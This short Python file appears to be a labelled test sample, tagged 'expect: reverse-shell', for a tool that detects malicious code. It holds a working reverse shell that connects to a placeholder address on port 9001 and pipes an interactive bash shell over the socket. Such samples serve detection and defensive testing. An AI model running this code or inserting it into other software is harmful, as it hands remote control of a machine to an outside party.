# expect: reverse-shell
import socket as so
import subprocess as sp

c = so.create_connection(("203.0.113.9", 9001))
sp.Popen(["/bin/bash", "-i"], stdin=c.fileno(), stdout=c.fileno(), stderr=c.fileno())
